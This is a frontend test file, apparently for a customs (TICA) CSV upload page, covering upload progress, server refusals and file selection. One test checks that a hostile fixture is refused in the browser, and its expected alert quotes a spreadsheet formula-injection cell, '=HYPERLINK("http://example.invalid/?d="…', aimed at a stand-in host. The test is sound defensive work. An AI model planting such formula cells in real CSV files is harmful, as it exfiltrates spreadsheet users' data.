// @vitest-environment jsdom
// jsdom, not happy-dom: its uploads reach msw/node as multipart forms, which happy-dom's XMLHttpRequest
// loses.
import { screen, waitFor, within } from '@testing-library/react';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { http, HttpResponse } from 'msw';
import axios, { type AxiosAdapter, type AxiosProgressEvent, type InternalAxiosRequestConfig } from 'axios';
import { getDb } from '@mocks/db';
import { server } from '@mocks/node';
import { flash } from '@/components/notices/notices-store';
import { http as api } from '@/lib/http';
import { currentPath, renderApp } from '../../render-app';
import { trackApi } from '../recibos/helpers';

vi.setConfig({ testTimeout: 60_000 });

const PAGE = '/default-layout/upload-tica-file';
const HEADER = 'recibo,aduana,ano,dua,regimen,fecha,estado,responsable,estadoAforo';
const EXITO =
  'Archivo fue subido exitosamente y se estan sincronizando los datos del TICA. Por favor esperar un momento y refrescar el listado TICA';
const FALLO = 'El Archivo se esta subiendo. Esperar unos minutos antes de listar TICA';

const csv = (name: string, ...lines: string[]) =>
  new File([[HEADER, ...lines].join('\r\n')], name, { type: 'text/csv' });
const fileInput = () => screen.getByLabelText('Seleccionar Archivo', { selector: 'input' });

/**
 * The network's upload progress, paced by the test: msw answers a request before any byte 'leaves',
 * so the adapter reports 40 % and then 100 % of the body, waiting for the test between steps, and then
 * sends the request for real (the mock backend answers it). Restored after each test.
 */
function pacedUpload() {
  const original = api.defaults.adapter;
  const real = axios.getAdapter(original);
  const steps: Array<() => void> = [];
  const next = () => new Promise<void>((resolve) => steps.push(resolve));
  const progress = (config: InternalAxiosRequestConfig, loaded: number) =>
    config.onUploadProgress?.({
      loaded,
      total: 1000,
      progress: loaded / 1000,
      bytes: loaded,
      upload: true,
    } as AxiosProgressEvent);
  const adapter: AxiosAdapter = async (config) => {
    if (config.url?.endsWith('/api/tica/upload')) {
      progress(config, 400);
      await next();
      progress(config, 1000);
      await next();
    }
    return real(config);
  };
  api.defaults.adapter = adapter;
  return {
    /** Lets the upload go on to its next step. */
    release: async () => {
      await waitFor(() => expect(steps.length).toBeGreaterThan(0));
      steps.shift()!();
    },
    restore: () => {
      api.defaults.adapter = original;
    },
  };
}

describe('TICA upload (upload-tica-file)', () => {
  it("uploads the first chosen file with 'Subido el {n}%', then 'Agregando Información en la Base de Datos', then the TICA list", async () => {
    const paced = pacedUpload();
    try {
      const db = getDb();
      const antes = db.ticas.size;
      const info = vi.spyOn(flash, 'info');
      const dismiss = vi.spyOn(flash, 'dismiss');
      const success = vi.spyOn(flash, 'success');
      const progreso = () => flash.list().filter((f) => f.message.startsWith('Subido el'));
      const { user, router } = await renderApp(PAGE, { role: 'coordinador' });
      expect(await screen.findByRole('heading', { name: 'Subir Archivo TICA' })).toBeInTheDocument();
      // Step 1: nothing chosen yet, nothing to upload.
      expect(screen.getByText('Ningún archivo seleccionado')).toBeInTheDocument();
      expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeDisabled();
      // The picker offers CSV files (the file is checked before upload); several allowed.
      expect(fileInput()).toHaveAttribute('accept', '.csv,text/csv');
      expect(fileInput()).toHaveAttribute('multiple');

      const primero = csv(
        'tica-noviembre.csv',
        '24600,Aduana de Limón,2026,880001,Depósito fiscal,2026-11-20,ACEPTADO,Jorge Arias Navarro,PENDIENTE',
        '24599,Aduana Santamaría,2026,880002,Entrega rápida,20/11/2026,LEVANTE,Silvia Porras Herrera,VERDE',
      );
      const segundo = csv('otro.csv', '1,2,3');
      await user.upload(fileInput(), [primero, segundo]);
      const elegidos = screen.getByRole('list', { name: 'Archivo a subir' });
      expect(
        within(elegidos)
          .getAllByRole('listitem')
          .map((li) => li.textContent),
      ).toEqual([expect.stringContaining('tica-noviembre.csv')]);
      expect(screen.getByText('Se eligieron 2 archivos; solo se sube el primero.')).toBeInTheDocument();
      await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));

      // Step 2: a real progress bar with the percent, and a 1 s flash per percent (one at a time).
      const barra = await screen.findByRole('progressbar', { name: 'Progreso de la subida' });
      expect(barra).toHaveAttribute('aria-valuenow', '40');
      expect(screen.getAllByText('Subido el 40%').length).toBeGreaterThan(0);
      // (Asserted on the calls: a 1 s flash may be gone before a slow test machine looks.)
      expect(info.mock.calls).toEqual([['Subido el 40%', 1000]]);
      expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeDisabled();
      expect(screen.getByRole('button', { name: 'Seleccionar Archivo' })).toBeDisabled();

      await paced.release();
      // Every byte sent: the server is adding the rows.
      const agregando = await screen.findByRole('progressbar', {
        name: 'Agregando Información en la Base de Datos',
      });
      expect(agregando).not.toHaveAttribute('aria-valuenow');
      expect(screen.getByText('Agregando Información en la Base de Datos')).toBeInTheDocument();
      expect(info.mock.calls).toEqual([
        ['Subido el 40%', 1000],
        ['Subido el 100%', 1000],
      ]);
      // One progress flash at a time: the new percent replaces the last.
      expect(dismiss).toHaveBeenCalledWith(info.mock.results[0]!.value);
      expect(progreso().length).toBeLessThanOrEqual(1);

      await paced.release();
      await waitFor(() => expect(currentPath(router)).toBe('/default-layout/tica-filtros'));
      expect(success).toHaveBeenCalledTimes(1);
      const [mensaje, duracion] = success.mock.calls[0]!;
      expect(duracion).toBe(4000);
      expect(mensaje.split('\n')).toEqual([
        EXITO,
        'Archivo tica-noviembre.csv: 2 filas leídas, 2 agregadas y 0 actualizadas',
      ]);
      expect(getDb().ticas.size).toBe(antes + 2);
      expect(getDb().ticas.find((t) => t.dua === '880002')).toMatchObject({ reciboId: 24599, aduanaId: 2 });
      // Only the first file went up.
      expect(getDb().ticas.find((t) => t.reciboId === 1)).toBeUndefined();
      // The list shows the new rows.
      expect(await screen.findByRole('heading', { name: 'TICA' })).toBeInTheDocument();
    } finally {
      paced.restore();
    }
  });

  it("shows 'Agregando Información en la Base de Datos' when the browser reports no progress", async () => {
    // A request a service worker answers may come without any upload progress event.
    let answer: () => void = () => {};
    const gate = new Promise<void>((resolve) => (answer = resolve));
    server.use(
      http.post('*/api/tica/upload', async () => {
        await gate;
        return HttpResponse.json({
          message: 'Archivo tica.csv: 0 filas leídas, 0 agregadas y 0 actualizadas',
          filas: 0,
        });
      }),
    );
    const { user, router } = await renderApp(PAGE, { role: 'admin' });
    await screen.findByRole('heading', { name: 'Subir Archivo TICA' });
    await user.upload(fileInput(), csv('tica.csv'));
    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));
    expect(await screen.findByRole('progressbar', { name: 'Progreso de la subida' })).toHaveAttribute(
      'aria-valuenow',
      '0',
    );
    expect(
      await screen.findByRole('progressbar', { name: 'Agregando Información en la Base de Datos' }),
    ).toBeVisible();
    expect(currentPath(router)).toBe(PAGE);
    answer();
    await waitFor(() => expect(currentPath(router)).toBe('/default-layout/tica-filtros'));
  });

  it("a refused file flashes the spec's text with the server's reason, then goes to the receipts (R6)", async () => {
    const antes = getDb().ticas.size;
    const danger = vi.spyOn(flash, 'danger');
    const { user, router } = await renderApp(PAGE, { role: 'admin' });
    await screen.findByRole('heading', { name: 'Subir Archivo TICA' });
    await user.upload(
      fileInput(),
      csv(
        'tica-malo.csv',
        '24600,Aduana de Limón,2026,880001,Depósito fiscal,2026-11-20,ACEPTADO,Jorge,PENDIENTE',
        '24601,Aduana de Golfito,2026,880003,Depósito fiscal,2026-11-20,ACEPTADO,Jorge,PENDIENTE',
      ),
    );
    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));
    await waitFor(() => expect(currentPath(router)).toBe('/default-layout/recibos'));
    expect(danger).toHaveBeenCalledTimes(1);
    const [mensaje, duracion] = danger.mock.calls[0]!;
    expect(mensaje.split('\n')).toEqual([FALLO, "Línea 3: la aduana 'Aduana de Golfito' no existe"]);
    expect(duracion).toBe(10_000);
    expect(getDb().ticas.size).toBe(antes);
  });

  it('a hostile file is refused in the browser (decision D30): its reason under it, it stays chosen, nothing sent or stored', async () => {
    const antes = getDb().ticas.size;
    const danger = vi.spyOn(flash, 'danger');
    const { user, router } = await renderApp(PAGE, { role: 'admin' });
    await screen.findByRole('heading', { name: 'Subir Archivo TICA' });
    const api = trackApi();
    const nombre = 'tica-formula-igual.csv';
    const hostil = readFileSync(resolve(import.meta.dirname, '../../fixtures/hostile', nombre));
    await user.upload(fileInput(), new File([hostil], nombre, { type: 'text/csv' }));
    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));

    expect(await screen.findByRole('alert')).toHaveTextContent(
      "Línea 3, columna responsable: el valor '=HYPERLINK(\"http://example.invalid/?d=\"…' empieza con '=' " +
        'y una hoja de cálculo lo tomaría como fórmula; ningún dato de TICA empieza así. Corrija esa celda e ' +
        'intente de nuevo.',
    );
    // Nothing left the browser, nothing was stored, the screen and the choice stay.
    expect(api.calls).toEqual([]);
    expect(getDb().ticas.size).toBe(antes);
    expect(danger).not.toHaveBeenCalled();
    expect(currentPath(router)).toBe(PAGE);
    expect(screen.getByRole('list', { name: 'Archivo a subir' })).toHaveTextContent(nombre);
    expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeEnabled();

    // A new choice clears the reason; a good file goes up as before.
    await user.upload(
      fileInput(),
      csv(
        'tica.csv',
        '24600,Aduana de Limón,2026,880001,Depósito fiscal,2026-11-20,ACEPTADO,Ana Mora,PENDIENTE',
      ),
    );
    expect(screen.queryByRole('alert')).not.toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));
    await waitFor(() => expect(currentPath(router)).toBe('/default-layout/tica-filtros'));
    expect(api.to('/api/tica/upload')).toHaveLength(1);
    expect(getDb().ticas.size).toBe(antes + 1);
  });

  it('a new choice replaces the file, and removing it goes back to step 1', async () => {
    const { user } = await renderApp(PAGE, { role: 'admin' });
    await screen.findByRole('heading', { name: 'Subir Archivo TICA' });
    await user.upload(fileInput(), csv('uno.csv'));
    await user.upload(fileInput(), csv('dos.csv'));
    const elegidos = screen.getByRole('list', { name: 'Archivo a subir' });
    expect(within(elegidos).getAllByRole('listitem')).toHaveLength(1);
    expect(elegidos).toHaveTextContent('dos.csv');
    expect(screen.queryByText(/solo se sube el primero/)).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeEnabled();
    await user.click(screen.getByRole('button', { name: 'Quitar dos.csv' }));
    expect(screen.getByText('Ningún archivo seleccionado')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeDisabled();
  });
});
